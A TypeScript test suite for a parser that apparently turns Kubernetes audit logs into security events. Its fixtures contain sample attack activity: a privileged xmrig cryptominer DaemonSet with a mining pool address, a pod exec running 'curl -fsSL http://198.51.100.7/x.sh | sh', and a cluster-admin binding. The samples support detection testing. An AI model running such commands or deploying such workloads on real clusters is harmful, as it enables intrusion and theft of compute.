import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
import { sniffSource } from './index.js';
import { k8sAudit } from './k8s-audit.js';
import type { SourceInput } from './types.js';

const good = fileInput('test/fixtures/k8s-audit/good.log');
const bad = fileInput('test/fixtures/k8s-audit/bad.log');
const webhook = fileInput('test/fixtures/k8s-audit/webhook.json');
runSourceContract({
  source: k8sAudit,
  good,
  bad,
  // the log copied while the miner DaemonSet's record was written: it ends inside the image string
  cut: cutLineCase(good, 1, '"image":"', 'docker.io/cutminer'),
});

async function unusedOf(input: SourceInput): Promise<number> {
  let unused = 0;
  for await (const batch of k8sAudit.read(input, TEST_CONTEXT)) unused += batch.unused ?? 0;
  return unused;
}

test('one workload-change per request: stages of one auditID are one event, reads and status writes are unused', async () => {
  const { events } = await readAll(k8sAudit, good);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.workload?.verb, e.coalmine.workload?.kind]),
    [
      [2, 'create', 'DaemonSet'], // its RequestReceived stage (line 1) is not a second event
      [4, 'create', 'Job'],
      [5, 'update', 'ReplicaSet'],
      [6, 'scale', 'Deployment'],
      [7, 'create', 'Pod'],
      [8, 'exec', 'Pod'], // ResponseStarted; its ResponseComplete on line 14 is the same request
      [9, 'create', 'ClusterRoleBinding'],
      [11, 'patch', 'Deployment'],
      [12, 'token', 'ServiceAccount'],
      [13, 'create', 'CronJob'],
      [15, 'delete', 'Deployment'],
    ],
  );
  assert.ok(events.every((e) => e.event.action === 'workload-change' && e.host?.name === 'k8s-api'));
  // list pods (line 3), pods/status (line 10), /healthz (line 16)
  assert.equal(await unusedOf(good), 3);
});

test('an anonymous DaemonSet: identity, source, pod template facts, image and privilege', async () => {
  const { events } = await readAll(k8sAudit, good);
  const ds = events[0];
  assert.equal(ds['@timestamp'], '2026-11-02T03:14:07.120Z');
  assert.equal(ds.event.id, '6f1c2a10-0001-4d7e-9a51-3b0c1e6a9d01');
  assert.equal(ds.event.outcome, 'success');
  assert.deepEqual(ds.user, { name: 'system:anonymous', roles: ['system:unauthenticated'] });
  assert.deepEqual(ds.source, { ip: '203.0.113.45' });
  assert.equal(ds.user_agent?.original, 'python-requests/2.31.0');
  assert.deepEqual(ds.orchestrator, { namespace: 'kube-system', resource: { type: 'daemonset', name: 'kube-netmon' } });
  assert.deepEqual(ds.container, {
    image: { name: 'docker.io/metminer/xmrig', tag: '6.21.0' },
    security_context: { privileged: true },
  });
  const w = ds.coalmine.workload;
  assert.equal(w?.status, 201);
  assert.equal(w?.hostPID, true);
  assert.equal(w?.hostNetwork, true);
  assert.deepEqual(w?.hostPaths, ['/']);
  assert.deepEqual(w?.labels, { app: 'kube-netmon' });
  const [c] = w?.containers ?? [];
  assert.equal(c.image, 'docker.io/metminer/xmrig:6.21.0');
  assert.deepEqual(c.args?.slice(0, 2), ['-o', 'stratum+tcp://pool.supportxmr.com:3333']);
  assert.deepEqual(c.env, ['POOL_USER=44AFFq5kSiGBoZ4N', 'POOL_PASS=(from secret)']);
  assert.equal(c.privileged, true);
  assert.equal(c.cpuLimitCores, 2);
  assert.equal(c.cpuRequestCores, 0.5);
  // the request and response bodies are summarised, not carried whole
  assert.equal(ds.original.requestObject, undefined);
  assert.equal(ds.original.verb, 'create');
});

test('a denied create is a failure that still carries what was asked for; the node goes to workload.node', async () => {
  const { events } = await readAll(k8sAudit, good);
  const denied = events[4];
  assert.equal(denied.event.outcome, 'failure');
  assert.deepEqual(denied.event.type, ['creation', 'denied']);
  assert.equal(denied.coalmine.workload?.status, 403);
  assert.equal(denied.coalmine.workload?.node, 'worker-2');
  assert.equal(denied.host?.name, 'k8s-api');
  assert.deepEqual(denied.container?.image, { name: 'xmrig/xmrig' });
  // a forbid decision alone (no status: a RequestReceived-only log) is a failure too
  const line = JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    stage: 'RequestReceived',
    verb: 'create',
    objectRef: { resource: 'pods', namespace: 'default' },
    requestReceivedTimestamp: '2026-11-02T03:17:12.250000Z',
    annotations: { 'authorization.k8s.io/decision': 'forbid' },
  });
  const { events: alone } = await readAll(k8sAudit, memoryInput('audit.log', `${line}\n`));
  assert.equal(alone[0].event.outcome, 'failure');
  assert.equal(alone[0].coalmine.workload?.status, undefined);
});

test('exec takes its command and container from the request URI; scale reads the Scale patch; CI job and CronJob specs', async () => {
  const { events } = await readAll(k8sAudit, good);
  const byVerb = (verb: string, kind: string) =>
    events.find((e) => e.coalmine.workload?.verb === verb && e.coalmine.workload.kind === kind);
  const exec = byVerb('exec', 'Pod');
  assert.deepEqual(exec?.coalmine.workload?.execCommand, ['sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh']);
  assert.equal(exec?.container?.name, 'nginx');
  assert.equal(exec?.source?.ip, '192.0.2.30'); // the first of sourceIPs
  assert.equal(byVerb('scale', 'Deployment')?.coalmine.workload?.replicas, 40);
  const job = byVerb('create', 'Job');
  assert.equal(job?.coalmine.workload?.serviceAccount, 'gitlab-runner');
  assert.equal(job?.user?.id, '0b5e3c7a-7f44-4c1e-a7b0-2f3a1d9e8c11');
  const cron = byVerb('create', 'CronJob');
  // init containers are read too, but the event's image is the first regular container's
  assert.deepEqual(
    cron?.coalmine.workload?.containers?.map((c) => c.image),
    ['busybox:1.36', 'apache/spark:3.5.1'],
  );
  assert.deepEqual(cron?.container?.image, { name: 'apache/spark', tag: '3.5.1' });
  const rs = byVerb('update', 'ReplicaSet');
  assert.deepEqual(rs?.orchestrator?.resource?.parent, { type: 'deployment', name: 'api' });
  assert.equal(rs?.coalmine.workload?.replicas, 6);
  assert.deepEqual(rs?.container?.image?.hash?.all, [
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  ]);
  assert.equal(
    byVerb('patch', 'Deployment')?.coalmine.workload?.containers?.[0].image,
    'registry.example.com/shop/api:2.3.1',
  );
});

test('a ClusterRoleBinding keeps its roleRef and subjects in original (WorkloadFacts has no place for them)', async () => {
  const { events } = await readAll(k8sAudit, good);
  const crb = events.find((e) => e.coalmine.workload?.kind === 'ClusterRoleBinding');
  assert.deepEqual(crb?.event.category, ['iam', 'configuration']);
  const body = crb?.original.requestObject as { roleRef?: { name?: string }; subjects?: unknown[] };
  assert.equal(body.roleRef?.name, 'cluster-admin');
  assert.equal(body.subjects?.length, 1);
});

test('a JSON patch (op list) gives replicas and images; a websocket exec (verb get) is still an exec', async () => {
  const base = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    stage: 'ResponseComplete',
    responseStatus: { code: 200 },
    requestReceivedTimestamp: '2026-11-02T06:00:00Z',
  };
  const lines = [
    {
      ...base,
      auditID: 'a1',
      verb: 'patch',
      objectRef: { resource: 'statefulsets', namespace: 'db', name: 'pg' },
      requestObject: [
        { op: 'replace', path: '/spec/replicas', value: 12 },
        { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'evil.example/pg:latest' },
      ],
    },
    {
      ...base,
      auditID: 'a2',
      verb: 'get',
      requestURI: '/api/v1/namespaces/db/pods/pg-0/exec?command=%2Ftmp%2Fkworker&container=pg',
      objectRef: { resource: 'pods', namespace: 'db', name: 'pg-0', subresource: 'exec' },
    },
  ];
  const { events, issues } = await readAll(
    k8sAudit,
    memoryInput('audit.log', `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`),
  );
  assert.deepEqual(issues, []);
  assert.equal(events[0].coalmine.workload?.replicas, 12);
  assert.equal(events[0].coalmine.workload?.containers?.[0].image, 'evil.example/pg:latest');
  assert.deepEqual(events[1].coalmine.workload?.execCommand, ['/tmp/kworker']);
  assert.equal(events[1].coalmine.workload?.verb, 'exec');
});

test('a pretty-printed EventList (webhook backend) is read item by item, each on its own line', async () => {
  assert.equal(sniffSource(webhook)?.name, 'k8s-audit');
  const { events, issues } = await readAll(k8sAudit, webhook);
  assert.deepEqual(issues, []);
  assert.equal(events.length, 1);
  assert.equal(events[0].coalmine.ref.line, 6);
  assert.equal(events[0].coalmine.workload?.replicas, 3);
  assert.equal(events[0].container?.image?.name, 'iproyal/pawns-cli');
  assert.equal(await unusedOf(webhook), 1); // a configmap get
});

test('bad records are reported with line and code, and the good ones around them are read', async () => {
  const { events, issues } = await readAll(k8sAudit, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'K8S_AUDIT_BAD_JSON'],
      [3, 'K8S_AUDIT_BAD_RECORD'],
      [4, 'K8S_AUDIT_BAD_RECORD'],
      [5, 'K8S_AUDIT_BAD_RECORD'],
      [6, 'K8S_AUDIT_BAD_RECORD'],
      [7, 'K8S_AUDIT_BAD_RECORD'],
      [9, 'K8S_AUDIT_BAD_RECORD'],
      [9, 'K8S_AUDIT_BAD_RECORD'],
    ],
  );
  assert.match(issues[2].reason, /timestamp "yesterday" is not a time/);
  assert.match(issues[3].reason, /no verb/);
  assert.match(issues[4].reason, /kind "Pod" is not Event/);
  assert.match(issues[6].reason, /item 1: timestamp "1970-01-01T00:00:00Z" is not a time/);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [1, 8, 9],
  );
  // every field of the hostile record on line 8 has the wrong type: none of them is taken
  const hostile = events[1];
  assert.equal(hostile.user, undefined);
  assert.equal(hostile.source, undefined);
  assert.equal(hostile.event.outcome, 'unknown');
  assert.deepEqual(hostile.coalmine.workload?.containers, [{ name: 'c', env: ['A='] }]);
  assert.equal(hostile.coalmine.workload?.replicas, undefined);
  assert.equal(hostile.coalmine.workload?.hostPID, undefined);
  assert.equal(hostile.container, undefined);
});

test('the host is --host when given, else k8s-api; the pod spec node is workload.node, never the host', async () => {
  const { events } = await readAll(k8sAudit, fileInput(good.name, { hostHint: 'prod-cluster-api' }));
  assert.ok(events.every((e) => e.host?.name === 'prod-cluster-api'));
});

test('bounds: containers, args, env and groups are capped and long values clipped', async () => {
  const many = (n: number, f: (i: number) => unknown) => Array.from({ length: n }, (_, i) => f(i));
  const line = JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    auditID: 'big',
    stage: 'ResponseComplete',
    verb: 'create',
    user: { username: 'u'.repeat(10_000), groups: many(500, (i) => `g${i}`) },
    objectRef: { resource: 'pods', namespace: 'default' },
    requestObject: {
      spec: {
        containers: many(200, (i) => ({
          name: `c${i}`,
          image: 'busybox',
          // only the first is large: the line stays a few MB
          ...(i === 0
            ? {
                args: many(300, () => 'a'.repeat(5000)),
                env: many(200, (j) => ({ name: `E${j}`, value: 'v'.repeat(5000) })),
              }
            : {}),
        })),
      },
    },
    requestReceivedTimestamp: '2026-11-02T06:00:00Z',
  });
  const { events, issues } = await readAll(k8sAudit, memoryInput('audit.log', `${line}\n`), {
    ...TEST_CONTEXT,
    maxLineBytes: 1 << 30,
  });
  assert.deepEqual(issues, []);
  const w = events[0].coalmine.workload;
  assert.equal(w?.containers?.length, 64);
  assert.equal(w?.containers?.[0].args?.length, 128);
  assert.ok((w?.containers?.[0].args?.[0].length ?? 0) < 4200);
  assert.equal(w?.containers?.[0].env?.length, 64);
  assert.ok((w?.containers?.[0].env?.[0].length ?? 0) < 1200);
  assert.equal(events[0].user?.roles?.length, 32);
  assert.ok((events[0].user?.name?.length ?? 0) < 300);
});

test('sniff: audit events and lists are k8s-audit; core/v1 Events, inventories and NDJSON are not', () => {
  assert.equal(sniffSource(good)?.name, 'k8s-audit');
  assert.equal(k8sAudit.sniff('{"kind":"Event","apiVersion":"v1","reason":"Scheduled"}\n', good), 0);
  assert.equal(k8sAudit.sniff('{"kind":"List","apiVersion":"v1","items":[]}\n', good), 0);
  assert.equal(k8sAudit.sniff('{"@timestamp":"2026-12-01T10:00:00Z","event":{"action":"exec"}}\n', good), 0);
  const oneLineList = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [] });
  assert.ok(k8sAudit.sniff(`${oneLineList}\n`, good) > 0);
});

/** Deterministic damage: a cut at a random byte, or bytes replaced, inserted or deleted. */
function mutations(text: string, count: number, seed: number): string[] {
  let s = seed;
  const rnd = (n: number) => {
    s = (Math.imul(s, 1103515245) + 12345) & 0x7fffffff;
    return s % n;
  };
  const junk = '{}[]":,\\\n x0-';
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let t = text;
    const edits = 1 + rnd(4);
    for (let k = 0; k < edits; k++) {
      const at = rnd(t.length);
      const op = rnd(4);
      if (op === 0) t = t.slice(0, at);
      else if (op === 1) t = `${t.slice(0, at)}${junk[rnd(junk.length)]}${t.slice(at + 1)}`;
      else if (op === 2) t = `${t.slice(0, at)}${junk[rnd(junk.length)]}${t.slice(at)}`;
      else t = `${t.slice(0, at)}${t.slice(at + 1 + rnd(40))}`;
    }
    out.push(t);
  }
  return out;
}

test('fuzz: mutated and cut copies never throw; every line that does not parse is reported and gives no event', async () => {
  for (const fixture of [good, webhook]) {
    const text = fixture.head.toString('utf8');
    for (const variant of mutations(text, 150, 11)) {
      const { events, issues } = await readAll(k8sAudit, memoryInput('fuzz.log', variant));
      for (const i of issues) {
        assert.equal(i.file, 'fuzz.log');
        assert.ok(i.line !== undefined && i.line >= 1, JSON.stringify(i));
      }
      for (const e of events) {
        assert.equal(new Date(e.coalmine.ts).toISOString(), e['@timestamp']);
        assert.equal(e.event.action, 'workload-change');
      }
      if (fixture === good) {
        // one record per line: a line JSON cannot read is reported on that line and yields nothing
        const lines = variant.split('\n');
        lines.forEach((line, n) => {
          if (line.trim() === '') return;
          let parses = true;
          try {
            JSON.parse(line);
          } catch {
            parses = false;
          }
          if (parses) return;
          assert.ok(
            issues.some((i) => i.line === n + 1),
            `line ${n + 1} does not parse and is not reported`,
          );
          assert.ok(!events.some((e) => e.coalmine.ref.line === n + 1));
        });
      } else if (variant.length < text.length - 2 && !variant.trimEnd().endsWith('}')) {
        // a document cut before its end says so
        assert.ok(issues.length > 0, 'a cut document is reported');
      }
    }
  }
});

test('sniff: an audit Event line without apiVersion (webhook items, Falco k8s_audit traces) is k8s-audit by its audit fields', () => {
  const item = {
    annotations: { 'authorization.k8s.io/decision': 'allow' },
    auditID: 'c5be68f4-80b8-4159-adc4-76ddb195334e',
    kind: 'Event',
    level: 'Request',
    objectRef: { name: 'nginx-deployment', namespace: 'default', resource: 'deployments' },
    requestReceivedTimestamp: '2018-10-26T13:07:36.905144Z',
    requestURI: '/apis/extensions/v1beta1/namespaces/default/deployments',
    stage: 'ResponseComplete',
    user: { username: 'minikube-user' },
    verb: 'create',
  };
  const line = `${JSON.stringify(item)}\n`;
  assert.equal(sniffSource(memoryInput('item.log', line))?.name, 'k8s-audit');
  // the head ends inside a long first record: the key shape still says audit
  const long = JSON.stringify({ ...item, requestObject: { spec: { x: 'y'.repeat(200) } } });
  const cut = long.slice(0, long.indexOf('yyy') + 10);
  assert.ok(k8sAudit.sniff(cut, good) > 0);
  // without the audit fields a kind Event is the core/v1 Event, not ours
  assert.equal(k8sAudit.sniff('{"kind":"Event","reason":"Scheduled","involvedObject":{"kind":"Pod"}}\n', good), 0);
  assert.equal(k8sAudit.sniff('{"kind":"Event","auditID":"x"}\n', good), 0);
});

test('an object the server names (generateName) takes the name from the response; without a response the prefix stands in', async () => {
  // every controller-made pod is created this way: the ReplicaSet asks for "web-5cdc-", the API server answers "web-5cdc-rgw6z"
  const event = (level: string, withResponse: boolean, kind: string, resource: string) =>
    JSON.stringify({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level,
      auditID: `id-${level}-${kind}`,
      stage: 'ResponseComplete',
      requestURI: `/api/v1/namespaces/default/${resource}`,
      verb: 'create',
      user: { username: 'system:serviceaccount:kube-system:replicaset-controller' },
      objectRef: { resource, namespace: 'default', apiVersion: 'v1' },
      responseStatus: { code: 201 },
      requestObject: {
        kind,
        metadata: { generateName: 'web-5cdc-' },
        spec: { containers: [{ name: 'c', image: 'nginx' }] },
      },
      ...(withResponse
        ? { responseObject: { kind, metadata: { name: 'web-5cdc-rgw6z', generateName: 'web-5cdc-' } } }
        : {}),
      requestReceivedTimestamp: '2018-10-25T14:09:12.572676Z',
    });
  const text = [
    event('RequestResponse', true, 'Pod', 'pods'),
    event('RequestResponse', true, 'Job', 'jobs'),
    event('Request', false, 'Pod', 'pods'),
  ].join('\n');
  const { events } = await readAll(k8sAudit, memoryInput('generate-name.log', `${text}\n`));
  assert.deepEqual(
    events.map((e) => [e.coalmine.workload?.kind, e.coalmine.workload?.name]),
    [
      ['Pod', 'web-5cdc-rgw6z'],
      ['Job', 'web-5cdc-rgw6z'],
      ['Pod', 'web-5cdc-'],
    ],
  );
});
